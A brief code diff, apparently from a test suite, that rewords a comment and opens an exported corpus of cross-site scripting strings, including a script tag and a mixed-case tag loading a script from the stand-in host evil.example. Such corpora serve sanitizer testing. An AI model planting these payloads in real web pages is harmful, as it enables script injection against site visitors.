@@ -1,4 +1,4 @@
-/** Text that tries to become script; each calls `pwned()` when it succeeds. */
+/** Texts that try to run as script; each one calls `pwned()` if it succeeds. */
 export const xssCorpus: readonly string[] = [
   '<script>pwned()</script>',
   '<ScRiPt src=//evil.example/x.js></sCrIpT>',
